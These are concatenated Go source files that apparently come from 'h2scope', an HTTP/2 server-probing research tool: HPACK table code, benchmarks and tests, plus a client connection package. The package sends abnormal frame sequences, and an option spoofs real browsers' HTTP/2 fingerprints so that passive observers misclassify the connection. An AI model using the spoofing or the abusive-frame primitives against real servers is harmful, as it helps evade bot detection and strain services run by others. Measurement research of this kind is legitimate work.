			return 0, nil, DecodingError{errors.New("integer overflow")}
		}
	}
	return n, buf, nil
}
