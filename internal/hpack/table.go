package hpack

// dynamicTable is the HPACK dynamic table (RFC 7541 section 2.3.2).
//
// Entries are stored oldest-first in ents; the newest entry is at the end.
// Wire indexing is newest-first and offset by the static table: wire index
// staticTableLen+1 addresses the newest dynamic entry.
type dynamicTable struct {
	ents    []HeaderField
	size    uint32
	maxSize uint32
}

func newDynamicTable(maxSize uint32) *dynamicTable {
	return &dynamicTable{maxSize: maxSize}
}

// setMaxSize updates the table's maximum size and evicts entries as needed
// (RFC 7541 section 4.3).
func (dt *dynamicTable) setMaxSize(n uint32) {
	dt.maxSize = n
	dt.evict()
}

// add inserts hf as the newest entry, evicting old entries to fit. An entry
// larger than the whole table empties the table (RFC 7541 section 4.4).
func (dt *dynamicTable) add(hf HeaderField) {
	if hf.Size() > dt.maxSize {
		dt.ents = dt.ents[:0]
		dt.size = 0
		return
	}
	dt.ents = append(dt.ents, hf)
	dt.size += hf.Size()
	dt.evict()
}

func (dt *dynamicTable) evict() {
	drop := 0
	for dt.size > dt.maxSize && drop < len(dt.ents) {
		dt.size -= dt.ents[drop].Size()
		drop++
	}
	if drop > 0 {
		copy(dt.ents, dt.ents[drop:])
		dt.ents = dt.ents[:len(dt.ents)-drop]
	}
}

// length returns the number of dynamic entries.
func (dt *dynamicTable) length() int { return len(dt.ents) }

// at returns the entry with 1-based dynamic index i (1 = newest).
func (dt *dynamicTable) at(i uint64) (HeaderField, bool) {
	if i == 0 || i > uint64(len(dt.ents)) {
		return HeaderField{}, false
	}
	return dt.ents[uint64(len(dt.ents))-i], true
}

// search returns the best wire index for hf among dynamic entries:
// an exact name/value match if one exists, else a name-only match.
// nameOnly reports which kind was found.
func (dt *dynamicTable) search(hf HeaderField) (index uint64, nameOnly, found bool) {
	var nameIdx uint64
	for i := len(dt.ents) - 1; i >= 0; i-- {
		ent := dt.ents[i]
		if ent.Name != hf.Name {
			continue
		}
		wire := uint64(staticTableLen) + uint64(len(dt.ents)-i)
		if ent.Value == hf.Value {
			return wire, false, true
		}
		if nameIdx == 0 {
			nameIdx = wire
		}
	}
	if nameIdx != 0 {
		return nameIdx, true, true
	}
	return 0, false, false
}

// lookup resolves a wire index across the static and dynamic tables.
func (dt *dynamicTable) lookup(i uint64) (HeaderField, bool) {
	if i == 0 {
		return HeaderField{}, false
	}
	if i <= uint64(staticTableLen) {
		return staticTable[i-1], true
	}
	return dt.at(i - uint64(staticTableLen))
}
