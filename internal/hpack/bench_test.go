package hpack

import (
	"strings"
	"testing"
)

// benchFields is a realistic response header list: a mix of static-table
// exact matches, static names with dynamic values, and custom fields.
var benchFields = []HeaderField{
	{Name: ":status", Value: "200"},
	{Name: "content-type", Value: "text/html; charset=utf-8"},
	{Name: "content-length", Value: "16384"},
	{Name: "server", Value: "h2scope-testbed/1.0"},
	{Name: "cache-control", Value: "max-age=3600, public"},
	{Name: "etag", Value: "\"5f2b8c-4000-h2scope\""},
	{Name: "x-experiment", Value: "multiplexing-k8"},
}

// BenchmarkHpackEncode measures steady-state block encoding with scratch
// reuse (AppendBlock into a recycled buffer).
func BenchmarkHpackEncode(b *testing.B) {
	enc := NewEncoder(PolicyIndexAll)
	var buf []byte
	for i := 0; i < 3; i++ {
		buf = enc.AppendBlock(buf[:0], benchFields) // converge the dynamic table
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf = enc.AppendBlock(buf[:0], benchFields)
	}
	b.SetBytes(int64(len(buf)))
}

// BenchmarkHpackDecode measures steady-state block decoding with scratch
// reuse (DecodeAppend into a recycled field slice).
func BenchmarkHpackDecode(b *testing.B) {
	enc := NewEncoder(PolicyIndexAll)
	dec := NewDecoder(DefaultDynamicTableSize)
	var block []byte
	var fields []HeaderField
	var err error
	for i := 0; i < 3; i++ { // converge both dynamic tables in lockstep
		block = enc.AppendBlock(block[:0], benchFields)
		if fields, err = dec.DecodeAppend(fields[:0], block); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(len(block)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fields, err = dec.DecodeAppend(fields[:0], block)
		if err != nil {
			b.Fatal(err)
		}
	}
	if len(fields) != len(benchFields) {
		b.Fatalf("decoded %d fields, want %d", len(fields), len(benchFields))
	}
}

// benchHuffmanInput is a Huffman-coded header value long enough to amortize
// per-call overhead: a plausible cookie-sized ASCII string.
var benchHuffmanInput = appendHuffman(nil,
	strings.Repeat("session=abc123def456; path=/; secure; httponly. ", 16))

// BenchmarkHpackHuffmanDecode compares the 4-bit table state machine against
// the reference pointer-chasing tree walk on identical input. The table/tree
// ratio is the headline number for the ISSUE-5 ≥2x acceptance criterion.
func BenchmarkHpackHuffmanDecode(b *testing.B) {
	var dst []byte
	b.Run("table", func(b *testing.B) {
		b.SetBytes(int64(len(benchHuffmanInput)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			var err error
			if dst, err = decodeHuffman(dst[:0], benchHuffmanInput); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("tree", func(b *testing.B) {
		b.SetBytes(int64(len(benchHuffmanInput)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			var err error
			if dst, err = decodeHuffmanTree(dst[:0], benchHuffmanInput); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// BenchmarkHpackHuffmanEncode measures appendHuffman with buffer reuse.
func BenchmarkHpackHuffmanEncode(b *testing.B) {
	s := strings.Repeat("content-security-policy: default-src 'self'. ", 16)
	var dst []byte
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		dst = appendHuffman(dst[:0], s)
	}
}

// TestHotPathAllocs proves the HPACK halves of the ISSUE-5 zero-alloc
// contract: once the dynamic tables and scratch buffers have converged,
// encoding and decoding a header block must not allocate.
func TestHotPathAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("alloc counting under -short")
	}

	t.Run("encode", func(t *testing.T) {
		enc := NewEncoder(PolicyIndexAll)
		var buf []byte
		for i := 0; i < 3; i++ {
			buf = enc.AppendBlock(buf[:0], benchFields)
		}
		allocs := testing.AllocsPerRun(200, func() {
			buf = enc.AppendBlock(buf[:0], benchFields)
		})
		if allocs != 0 {
			t.Errorf("steady-state AppendBlock: %.1f allocs/op, want 0", allocs)
		}
	})

	t.Run("decode", func(t *testing.T) {
		enc := NewEncoder(PolicyIndexAll)
		dec := NewDecoder(DefaultDynamicTableSize)
		var block []byte
		var fields []HeaderField
		var err error
		for i := 0; i < 3; i++ {
			block = enc.AppendBlock(block[:0], benchFields)
			if fields, err = dec.DecodeAppend(fields[:0], block); err != nil {
				t.Fatal(err)
			}
		}
		allocs := testing.AllocsPerRun(200, func() {
			fields, err = dec.DecodeAppend(fields[:0], block)
			if err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("steady-state DecodeAppend: %.1f allocs/op, want 0", allocs)
		}
	})

	t.Run("decode-literals", func(t *testing.T) {
		// PolicyNoDynamicInsert re-sends every field as a literal, often
		// Huffman-coded: the path through the scratch buffer and the intern
		// cache. After warmup the strings are interned, so repeated blocks
		// decode without allocating.
		enc := NewEncoder(PolicyNoDynamicInsert)
		dec := NewDecoder(DefaultDynamicTableSize)
		block := enc.EncodeBlock(benchFields)
		var fields []HeaderField
		var err error
		for i := 0; i < 3; i++ {
			if fields, err = dec.DecodeAppend(fields[:0], block); err != nil {
				t.Fatal(err)
			}
		}
		allocs := testing.AllocsPerRun(200, func() {
			fields, err = dec.DecodeAppend(fields[:0], block)
			if err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("steady-state literal DecodeAppend: %.1f allocs/op, want 0", allocs)
		}
	})

	t.Run("huffman-decode", func(t *testing.T) {
		var dst []byte
		var err error
		dst, err = decodeHuffman(dst, benchHuffmanInput)
		if err != nil {
			t.Fatal(err)
		}
		allocs := testing.AllocsPerRun(200, func() {
			if dst, err = decodeHuffman(dst[:0], benchHuffmanInput); err != nil {
				t.Fatal(err)
			}
		})
		if allocs != 0 {
			t.Errorf("steady-state decodeHuffman: %.1f allocs/op, want 0", allocs)
		}
	})
}
