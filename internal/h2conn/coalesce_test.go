package h2conn_test

import (
	"io"
	"net"
	"sync"
	"testing"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/netsim"
)

// countingConn wraps a net.Conn and counts Write calls. On a real socket
// each call is one syscall, so the counts below are the syscall-reduction
// claim of write coalescing measured end to end.
type countingConn struct {
	net.Conn
	mu     sync.Mutex
	writes int
}

func (c *countingConn) Write(p []byte) (int, error) {
	c.mu.Lock()
	c.writes++
	c.mu.Unlock()
	return c.Conn.Write(p)
}

func (c *countingConn) count() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.writes
}

// TestDialPreambleSingleWrite proves the connection preamble — client
// preface plus initial SETTINGS — leaves in one coalesced write instead of
// one write per element.
func TestDialPreambleSingleWrite(t *testing.T) {
	clientNC, serverNC := netsim.Pipe()
	cc := &countingConn{Conn: clientNC}
	c, err := h2conn.Dial(cc, h2conn.DefaultOptions())
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	t.Cleanup(func() {
		_ = c.Close()
		_ = serverNC.Close()
	})
	if got := cc.count(); got != 1 {
		t.Errorf("connection preamble used %d writes, want 1", got)
	}

	// The peer must still see a well-formed byte stream: preface first,
	// then a non-ACK SETTINGS frame.
	buf := make([]byte, len(frame.ClientPreface))
	if _, err := io.ReadFull(serverNC, buf); err != nil {
		t.Fatalf("reading preface: %v", err)
	}
	if string(buf) != frame.ClientPreface {
		t.Fatalf("preface = %q", buf)
	}
	fr := frame.NewFramer(serverNC, serverNC)
	f, err := fr.ReadFrame()
	if err != nil {
		t.Fatalf("reading SETTINGS: %v", err)
	}
	if sf, ok := f.(*frame.SettingsFrame); !ok || sf.IsAck() {
		t.Fatalf("first frame after preface = %+v", f)
	}
}

// TestOpenStreamsBatchSingleWrite proves a batch of requests coalesces all
// its HEADERS frames into one write — the nghttp2-style burst the load
// generator relies on.
func TestOpenStreamsBatchSingleWrite(t *testing.T) {
	clientNC, serverNC := netsim.Pipe()
	cc := &countingConn{Conn: clientNC}
	c, err := h2conn.Dial(cc, h2conn.DefaultOptions())
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	t.Cleanup(func() {
		_ = c.Close()
		_ = serverNC.Close()
	})

	const batch = 5
	reqs := make([]h2conn.Request, batch)
	for i := range reqs {
		reqs[i] = h2conn.Request{Authority: "coalesce.example", Path: "/"}
	}
	before := cc.count()
	ids, err := c.OpenStreams(reqs)
	if err != nil {
		t.Fatalf("OpenStreams: %v", err)
	}
	if len(ids) != batch {
		t.Fatalf("opened %d streams, want %d", len(ids), batch)
	}
	if got := cc.count() - before; got != 1 {
		t.Errorf("batch of %d HEADERS used %d writes, want 1", batch, got)
	}

	// The peer decodes exactly batch HEADERS frames from the single write.
	buf := make([]byte, len(frame.ClientPreface))
	if _, err := io.ReadFull(serverNC, buf); err != nil {
		t.Fatalf("reading preface: %v", err)
	}
	fr := frame.NewFramer(serverNC, serverNC)
	seen := 0
	for seen < batch {
		f, err := fr.ReadFrame()
		if err != nil {
			t.Fatalf("reading frames: %v", err)
		}
		if h, ok := f.(*frame.HeadersFrame); ok {
			if want := ids[seen]; h.Header().StreamID != want {
				t.Fatalf("HEADERS %d on stream %d, want %d", seen, h.Header().StreamID, want)
			}
			seen++
		}
	}
}
