// Package h2conn provides the client-side HTTP/2 connection H2Scope probes
// run over.
//
// Unlike a general-purpose HTTP/2 client, this connection exposes raw frame
// control — custom SETTINGS, zero or overflowing WINDOW_UPDATEs,
// self-dependent PRIORITY frames — and records every received frame in an
// ordered event log that probes query with wait predicates. The paper's
// methodology (Section III) is entirely about sending frame sequences a
// normal client never would and classifying the server's frame-level
// reaction, so the event log is the central artifact.
package h2conn

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/frame"
	"h2scope/internal/hpack"
	"h2scope/internal/trace"
)

// ErrTimeout is returned by wait helpers when the predicate does not become
// true in time.
var ErrTimeout = errors.New("h2conn: wait timed out")

// ErrConnClosed is returned when the connection ends before a wait
// predicate is satisfied.
var ErrConnClosed = errors.New("h2conn: connection closed")

// Event is one received frame, decoded and copied out of the framer's
// buffers. Fields are populated according to Type.
type Event struct {
	// Seq is the 0-based receive index of the frame on this connection.
	Seq int
	// At is the receive time.
	At time.Time
	// Type, Flags, StreamID and PayloadLen mirror the frame header.
	Type       frame.Type
	Flags      frame.Flags
	StreamID   uint32
	PayloadLen int

	// Data is the DATA payload (padding removed).
	Data []byte
	// Headers is the decoded header list of a HEADERS or PUSH_PROMISE
	// block, set on the frame that carries END_HEADERS.
	Headers []hpack.HeaderField
	// HeaderBlockLen is the total encoded size of the header block.
	HeaderBlockLen int
	// Settings is the decoded SETTINGS list.
	Settings []frame.Setting
	// ErrCode is the RST_STREAM or GOAWAY error code.
	ErrCode frame.ErrCode
	// LastStreamID is the GOAWAY last-stream-id.
	LastStreamID uint32
	// DebugData is the GOAWAY debug payload.
	DebugData []byte
	// Increment is the WINDOW_UPDATE increment.
	Increment uint32
	// PingData is the PING payload.
	PingData [8]byte
	// PromiseID is the PUSH_PROMISE promised stream.
	PromiseID uint32
}

// StreamEnded reports whether the frame carried END_STREAM.
func (e Event) StreamEnded() bool { return e.Flags.Has(frame.FlagEndStream) }

// IsAck reports whether a SETTINGS or PING event is an acknowledgment.
func (e Event) IsAck() bool { return e.Flags.Has(frame.FlagAck) }

// Options configures Dial.
type Options struct {
	// Settings is the client SETTINGS frame payload. Nil sends an empty
	// SETTINGS frame (still required by RFC 7540 section 3.5).
	Settings []frame.Setting
	// AutoPingAck answers server PINGs; on by default in NewOptions-less
	// zero value it is false, so set it for long-lived connections.
	AutoPingAck bool
	// AutoSettingsAck acknowledges server SETTINGS frames.
	AutoSettingsAck bool
	// AutoStreamWindow, when nonzero, enables automatic stream-level flow
	// control: after each DATA frame the consumed octets are replenished
	// with a WINDOW_UPDATE, keeping the window at its initial size (a
	// blind fixed-size refill would eventually overflow the peer's 2^31-1
	// accounting). Probes leave it zero for manual control.
	AutoStreamWindow uint32
	// AutoConnWindow is the connection-level analogue of AutoStreamWindow.
	AutoConnWindow uint32
	// EventLogLimit bounds the retained event log: once it grows past the
	// limit, the oldest half is discarded (Seq numbers stay absolute).
	// Zero applies DefaultEventLogLimit so an idle-but-chatty peer can
	// never grow the log without bound; probes produce a few hundred
	// events per connection and fit comfortably. Long-lived connections
	// issuing thousands of requests (h2load, benchmarks) set a small
	// explicit limit to keep per-request scan cost constant; a negative
	// value disables the cap entirely.
	EventLogLimit int
	// Tracer, when non-nil, receives frame-level trace events for this
	// connection (both directions) plus its open/close lifecycle. The
	// decoded Event log above is unaffected; the tracer is the cross-layer
	// observability bus (see internal/trace).
	Tracer *trace.Tracer
	// TraceConnID, when nonzero, is a connection ID the caller already
	// reserved with Tracer.ConnID — Dial then uses it instead of allocating
	// a fresh one. This lets the dial path emit pre-connection regions
	// (dial, TLS handshake) under the same ID the connection's frames will
	// carry, so span reconstruction never has to guess the attribution.
	TraceConnID uint64
	// Metrics, when non-nil, counts this connection's lifecycle, streams,
	// resets, GOAWAYs, and (via the shared framer set) every frame and wire
	// byte. Build one per registry with NewMetrics and share it across
	// connections.
	Metrics *Metrics
	// Impersonate, when non-nil, makes the connection wear a real
	// client's HTTP/2 fingerprint: the profile's SETTINGS (unless
	// Settings above is set explicitly), its connection WINDOW_UPDATE
	// delta and PRIORITY frames in the preamble, and its pseudo-header
	// order plus characteristic headers on every request. A passive
	// fingerprinting observer should classify the connection as that
	// client (fingerprint.ClientProfile.ExpectedAkamai).
	Impersonate *fingerprint.ClientProfile
}

// DefaultEventLogLimit is the event-log cap applied when
// Options.EventLogLimit is zero.
const DefaultEventLogLimit = 32768

func (o Options) eventLogLimit() int {
	switch {
	case o.EventLogLimit > 0:
		return o.EventLogLimit
	case o.EventLogLimit < 0:
		return 0 // unbounded, caller opted out explicitly
	default:
		return DefaultEventLogLimit
	}
}

// DefaultOptions returns the options a well-behaved client would use:
// automatic SETTINGS/PING acknowledgment plus consumed-octet window
// replenishment, which keeps both flow-control windows steady at their
// RFC-default sizes indefinitely. Clients that want deeper pipelines (bulk
// transfer, page loads) advertise a larger SETTINGS_INITIAL_WINDOW_SIZE on
// top, as pageload does.
func DefaultOptions() Options {
	return Options{
		AutoPingAck:      true,
		AutoSettingsAck:  true,
		AutoStreamWindow: 1 << 20,
		AutoConnWindow:   1 << 20,
	}
}

// Conn is a client-side HTTP/2 connection.
type Conn struct {
	nc   net.Conn
	fr   *frame.Framer
	opts Options

	// enc encodes request headers; guarded by encMu since probes may open
	// streams from multiple goroutines. encBuf is the encode scratch buffer,
	// reused under the same lock (the framer copies the fragment into its
	// own write buffer before returning).
	encMu  sync.Mutex
	enc    *hpack.Encoder
	encBuf []byte

	mu           sync.Mutex
	cond         *sync.Cond
	events       []Event
	nextSeq      int
	readErr      error
	closed       bool
	nextStreamID uint32

	// dec decodes response header blocks; touched only by the read loop.
	dec *hpack.Decoder
	// contBuf accumulates header fragments across CONTINUATION frames.
	contBuf      []byte
	contStreamID uint32
	contType     frame.Type
	contPromise  uint32
	contFlags    frame.Flags

	// tracer and traceConn identify this connection on the shared trace
	// bus; both are fixed at Dial time (tracer may be nil — all its
	// methods no-op then).
	tracer    *trace.Tracer
	traceConn uint64

	// closeMetricOnce makes the closed-connection count exact whether the
	// read loop or Close observes the termination first.
	closeMetricOnce sync.Once

	readDone chan struct{}
}

// countClosed records connection termination exactly once.
func (c *Conn) countClosed() {
	if c.opts.Metrics != nil {
		c.closeMetricOnce.Do(c.opts.Metrics.connsClosed.Inc)
	}
}

// Dial establishes an HTTP/2 connection over nc: it starts the read loop,
// sends the client preface and SETTINGS, and returns. The server's SETTINGS
// arrive asynchronously; use WaitSettings.
func Dial(nc net.Conn, opts Options) (*Conn, error) {
	c := &Conn{
		nc:           nc,
		fr:           frame.NewFramer(nc, nc),
		opts:         opts,
		enc:          hpack.NewEncoder(hpack.PolicyIndexAll),
		dec:          hpack.NewDecoder(hpack.DefaultDynamicTableSize),
		nextStreamID: 1,
		readDone:     make(chan struct{}),
	}
	c.cond = sync.NewCond(&c.mu)
	if opts.Metrics != nil {
		// Like the trace hook: installed before the read loop starts, since
		// the framer hook fields are unlocked.
		c.fr.SetMetrics(opts.Metrics.framer)
		opts.Metrics.connsOpened.Inc()
	}
	if opts.Tracer != nil {
		c.tracer = opts.Tracer
		c.traceConn = opts.TraceConnID
		if c.traceConn == 0 {
			c.traceConn = opts.Tracer.ConnID()
		}
		// The framer hook must be installed before the read loop starts:
		// there is no lock on it.
		c.fr.SetTrace(func(sent bool, hdr frame.Header) {
			c.tracer.Frame(c.traceConn, sent, hdr)
		})
		c.tracer.ConnOpen(c.traceConn, nc.RemoteAddr().String())
	}
	// Coalesced writes: every sender below flushes explicitly after its
	// burst, so multi-frame sequences (preface+SETTINGS here, batched
	// HEADERS in OpenStreams, WINDOW_UPDATE pairs in dispatch) reach the
	// wire in single writes.
	c.fr.SetWriteBuffering(0)
	// The read loop must be running before any writes: over synchronous
	// in-process pipes, concurrent client and server writes deadlock unless
	// both sides are also draining.
	go c.readLoop()
	if err := c.fr.WriteRawBytes(prefaceBytes); err != nil {
		_ = c.Close()
		return nil, fmt.Errorf("h2conn: writing preface: %w", err)
	}
	settings := opts.Settings
	if opts.Impersonate != nil && settings == nil {
		settings = opts.Impersonate.Settings
	}
	// Advertising SETTINGS_HEADER_TABLE_SIZE promises the peer it may grow
	// its encoder table to that size; the local decoder must accept the
	// matching size update or the first response block fails mid-decode.
	for _, s := range settings {
		if s.ID == frame.SettingHeaderTableSize {
			c.dec.SetAllowedMaxDynamicTableSize(s.Val)
		}
	}
	if err := c.fr.WriteSettings(settings...); err != nil {
		_ = c.Close()
		return nil, fmt.Errorf("h2conn: writing settings: %w", err)
	}
	// Impersonation preamble: the profile's connection window bump and
	// priority tree ride in the same coalesced write as SETTINGS, exactly
	// as the real clients emit them.
	if p := opts.Impersonate; p != nil {
		if p.ConnWindowDelta > 0 {
			if err := c.fr.WriteWindowUpdate(0, p.ConnWindowDelta); err != nil {
				_ = c.Close()
				return nil, fmt.Errorf("h2conn: writing impersonation window update: %w", err)
			}
		}
		for _, pr := range p.Priorities {
			err := c.fr.WritePriority(pr.StreamID, frame.PriorityParam{
				StreamDep: pr.DepStream,
				Exclusive: pr.Exclusive,
				Weight:    pr.Weight,
			})
			if err != nil {
				_ = c.Close()
				return nil, fmt.Errorf("h2conn: writing impersonation priority: %w", err)
			}
		}
	}
	if err := c.fr.Flush(); err != nil {
		_ = c.Close()
		return nil, fmt.Errorf("h2conn: writing connection preamble: %w", err)
	}
	return c, nil
}

// prefaceBytes avoids a per-Dial string-to-bytes conversion of the preface.
var prefaceBytes = []byte(frame.ClientPreface)

// Close tears down the connection. It is safe to call multiple times.
func (c *Conn) Close() error {
	c.mu.Lock()
	if c.closed {
		c.mu.Unlock()
		return nil
	}
	c.closed = true
	c.cond.Broadcast()
	c.mu.Unlock()
	c.countClosed()
	err := c.nc.Close()
	<-c.readDone
	return err
}

// ReadErr returns the terminal read-loop error, if the connection ended.
func (c *Conn) ReadErr() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.readErr
}

func (c *Conn) readLoop() {
	defer close(c.readDone)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.mu.Lock()
			if c.readErr == nil {
				c.readErr = err
			}
			c.closed = true
			c.cond.Broadcast()
			c.mu.Unlock()
			c.countClosed()
			if c.tracer != nil {
				c.tracer.ConnClose(c.traceConn, err.Error())
			}
			return
		}
		c.dispatch(f)
	}
}

// dispatch converts a frame into an Event, running HPACK decoding in
// receive order so the dynamic table stays synchronized.
func (c *Conn) dispatch(f frame.Frame) {
	hdr := f.Header()
	ev := Event{
		At:         time.Now(),
		Type:       hdr.Type,
		Flags:      hdr.Flags,
		StreamID:   hdr.StreamID,
		PayloadLen: int(hdr.Length),
	}
	emit := true
	switch f := f.(type) {
	case *frame.DataFrame:
		ev.Data = append([]byte(nil), f.Data...)
	case *frame.HeadersFrame:
		if !f.HeadersEnded() {
			c.contBuf = append(c.contBuf[:0], f.Fragment...)
			c.contStreamID = hdr.StreamID
			c.contType = frame.TypeHeaders
			c.contFlags = hdr.Flags
			emit = false
			break
		}
		ev.Headers = c.decodeBlock(f.Fragment)
		ev.HeaderBlockLen = len(f.Fragment)
	case *frame.ContinuationFrame:
		c.contBuf = append(c.contBuf, f.Fragment...)
		if !f.HeadersEnded() {
			emit = false
			break
		}
		ev.Type = c.contType
		ev.StreamID = c.contStreamID
		ev.Flags = c.contFlags
		ev.PromiseID = c.contPromise
		ev.Headers = c.decodeBlock(c.contBuf)
		ev.HeaderBlockLen = len(c.contBuf)
		c.contBuf = nil
	case *frame.SettingsFrame:
		ev.Settings = append([]frame.Setting(nil), f.Settings...)
		if !f.IsAck() && c.opts.AutoSettingsAck {
			_ = c.fr.WriteSettingsAck()
			_ = c.fr.Flush()
		}
	case *frame.RSTStreamFrame:
		ev.ErrCode = f.Code
		if c.opts.Metrics != nil {
			c.opts.Metrics.resetsReceived.Inc()
		}
	case *frame.GoAwayFrame:
		ev.ErrCode = f.Code
		ev.LastStreamID = f.LastStreamID
		ev.DebugData = append([]byte(nil), f.DebugData...)
		if c.opts.Metrics != nil {
			c.opts.Metrics.goawaysReceived.Inc()
		}
	case *frame.WindowUpdateFrame:
		ev.Increment = f.Increment
	case *frame.PingFrame:
		ev.PingData = f.Data
		if !f.IsAck() && c.opts.AutoPingAck {
			_ = c.fr.WritePing(true, f.Data)
			_ = c.fr.Flush()
		}
	case *frame.PushPromiseFrame:
		if !f.HeadersEnded() {
			c.contBuf = append(c.contBuf[:0], f.Fragment...)
			c.contStreamID = hdr.StreamID
			c.contType = frame.TypePushPromise
			c.contPromise = f.PromiseID
			c.contFlags = hdr.Flags
			emit = false
			break
		}
		ev.PromiseID = f.PromiseID
		ev.Headers = c.decodeBlock(f.Fragment)
		ev.HeaderBlockLen = len(f.Fragment)
	}
	if !emit {
		return
	}
	c.mu.Lock()
	ev.Seq = c.nextSeq
	c.nextSeq++
	c.events = append(c.events, ev)
	if limit := c.opts.eventLogLimit(); limit > 0 && len(c.events) > limit {
		keep := limit / 2
		c.events = append(c.events[:0:0], c.events[len(c.events)-keep:]...)
	}
	c.cond.Broadcast()
	c.mu.Unlock()

	if ev.Type == frame.TypeData && len(ev.Data) > 0 {
		// Replenish exactly what the frame consumed, so the peer's send
		// windows hold steady at their initial sizes indefinitely. The
		// stream and connection updates coalesce into one write at the
		// trailing Flush.
		wrote := false
		if c.opts.AutoStreamWindow > 0 {
			if c.fr.WriteWindowUpdate(ev.StreamID, uint32(len(ev.Data))) == nil {
				wrote = true
				if c.opts.Metrics != nil {
					c.opts.Metrics.autoWindowStream.Inc()
				}
			}
		}
		if c.opts.AutoConnWindow > 0 {
			if c.fr.WriteWindowUpdate(0, uint32(len(ev.Data))) == nil {
				wrote = true
				if c.opts.Metrics != nil {
					c.opts.Metrics.autoWindowConn.Inc()
				}
			}
		}
		if wrote {
			_ = c.fr.Flush()
		}
	}
}

func (c *Conn) decodeBlock(block []byte) []hpack.HeaderField {
	fields, err := c.dec.DecodeFull(block)
	if err != nil {
		// Record what decoded; probes treat decode failures as anomalies
		// but the log must keep the frame.
		return fields
	}
	return fields
}

// Events returns a snapshot of all events received so far.
func (c *Conn) Events() []Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]Event(nil), c.events...)
}

// WaitFor blocks until pred returns true over the event log, the connection
// closes, or the timeout elapses, and returns the event snapshot.
//
// On connection close the snapshot is still returned with ErrConnClosed,
// because several probes (GOAWAY reactions) expect the connection to die.
func (c *Conn) WaitFor(timeout time.Duration, pred func([]Event) bool) ([]Event, error) {
	deadline := time.Now().Add(timeout)
	timer := time.AfterFunc(timeout, func() {
		c.mu.Lock()
		c.cond.Broadcast()
		c.mu.Unlock()
	})
	defer timer.Stop()

	c.mu.Lock()
	defer c.mu.Unlock()
	for {
		if pred(c.events) {
			return append([]Event(nil), c.events...), nil
		}
		if c.closed {
			return append([]Event(nil), c.events...), ErrConnClosed
		}
		if !time.Now().Before(deadline) {
			return append([]Event(nil), c.events...), ErrTimeout
		}
		c.cond.Wait()
	}
}

// WaitQuiet waits until no new event has arrived for the given idle window
// (or the connection closed), then returns the snapshot. Probes use it to
// let a response ordering settle.
func (c *Conn) WaitQuiet(idle, maxWait time.Duration) []Event {
	deadline := time.Now().Add(maxWait)
	last := -1
	for time.Now().Before(deadline) {
		c.mu.Lock()
		n := len(c.events)
		closed := c.closed
		c.mu.Unlock()
		if closed {
			break
		}
		if n == last {
			break
		}
		last = n
		time.Sleep(idle)
	}
	return c.Events()
}

// WaitSettings waits for the server's (non-ACK) SETTINGS frame.
func (c *Conn) WaitSettings(timeout time.Duration) (Event, error) {
	events, err := c.WaitFor(timeout, func(evs []Event) bool {
		return findSettings(evs) >= 0
	})
	if i := findSettings(events); i >= 0 {
		return events[i], nil
	}
	if err == nil {
		err = ErrTimeout
	}
	return Event{}, err
}

func findSettings(evs []Event) int {
	for i, e := range evs {
		if e.Type == frame.TypeSettings && !e.IsAck() {
			return i
		}
	}
	return -1
}

// --- senders ---

// NextStreamID reserves and returns the next client stream ID.
func (c *Conn) NextStreamID() uint32 {
	c.mu.Lock()
	defer c.mu.Unlock()
	id := c.nextStreamID
	c.nextStreamID += 2
	return id
}

// Request describes one HTTP/2 request to open.
type Request struct {
	Method    string
	Scheme    string
	Authority string
	Path      string
	// Extra appends additional header fields.
	Extra []hpack.HeaderField
	// Priority, when non-zero, is carried on the HEADERS frame.
	Priority frame.PriorityParam
}

// fields renders the request header list. A nil profile gives the
// connection's native :method,:scheme,:authority,:path order; a profile
// imposes its pseudo-header order and appends its characteristic plain
// headers before the request's own extras.
func (r Request) fields(p *fingerprint.ClientProfile) []hpack.HeaderField {
	method := r.Method
	if method == "" {
		method = "GET"
	}
	scheme := r.Scheme
	if scheme == "" {
		scheme = "https"
	}
	path := r.Path
	if path == "" {
		path = "/"
	}
	pseudo := map[string]string{
		":method":    method,
		":scheme":    scheme,
		":authority": r.Authority,
		":path":      path,
	}
	order := []string{":method", ":scheme", ":authority", ":path"}
	if p != nil && len(p.PseudoOrder) == len(order) {
		order = p.PseudoOrder
	}
	fields := make([]hpack.HeaderField, 0, len(order)+len(r.Extra))
	for _, name := range order {
		fields = append(fields, hpack.HeaderField{Name: name, Value: pseudo[name]})
	}
	if p != nil {
		fields = append(fields, p.Headers...)
	}
	return append(fields, r.Extra...)
}

// OpenStream sends a request on a fresh stream and returns its ID.
func (c *Conn) OpenStream(req Request) (uint32, error) {
	id := c.NextStreamID()
	return id, c.OpenStreamID(id, req)
}

// OpenStreamID sends a request on the given stream ID (probes sometimes
// need explicit IDs to build dependency trees).
func (c *Conn) OpenStreamID(id uint32, req Request) error {
	c.encMu.Lock()
	err := c.writeRequestLocked(id, req, true)
	c.encMu.Unlock()
	if err != nil {
		return err
	}
	if err := c.fr.Flush(); err != nil {
		return fmt.Errorf("h2conn: open stream %d: %w", id, err)
	}
	return nil
}

// OpenStreamBody sends a request HEADERS frame without END_STREAM, leaving
// the client half of the stream open for WriteData calls — the request shape
// uploads use and the primitive slow-transmission attacks abuse (a drip-fed
// body pins the server's stream state for the duration).
func (c *Conn) OpenStreamBody(req Request) (uint32, error) {
	id := c.NextStreamID()
	c.encMu.Lock()
	err := c.writeRequestLocked(id, req, false)
